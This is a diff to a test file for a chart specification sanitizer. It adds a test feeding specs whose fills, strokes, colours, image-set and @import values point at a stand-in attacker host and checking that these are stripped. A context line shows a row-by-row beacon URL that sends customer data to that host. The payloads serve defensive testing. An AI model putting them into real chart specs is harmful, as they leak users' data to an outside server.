@@ -54,6 +54,20 @@ describe('chart spec sanitizer', () => {
     expect(vega).not.toMatch(/"url"\s*:/);
   });
 
+  it('drops colours and styles the renderer would fetch: url(…) fills and strokes, image-set, @import (red-team finding)', () => {
+    const spec = {
+      mark: { type: 'bar', fill: `url(${EVIL}?fill)`, stroke: ` URL ( ${EVIL}?stroke)`, color: 'steelblue' },
+      encoding: { x: { field: 'a', type: 'nominal' }, y: { field: 'b', type: 'quantitative' }, color: { value: `url(${EVIL}?value)` } },
+      config: { view: { fill: `url(${EVIL}?view)` }, axis: { labelColor: `image-set("${EVIL}" 1x)` }, range: { category: ['red', `url(${EVIL}?range)`] } },
+      background: `@import "${EVIL}"`,
+    };
+    const cleaned = sanitizeSpec(spec);
+    if ('error' in cleaned) throw new Error(cleaned.error);
+    expect(JSON.stringify(cleaned.value)).not.toContain('evil.example');
+    expect(cleaned.value.mark).toEqual({ type: 'bar', color: 'steelblue' });
+    expect((cleaned.value.config as { range: { category: string[] } }).range.category).toEqual(['red']);
+  });
+
   it('refuses an image mark whose url is computed from each row, saying why', () => {
     const result = sanitizeSpec({
       transform: [{ calculate: `'${EVIL}?e=' + datum.customer`, as: 'pixel' }],
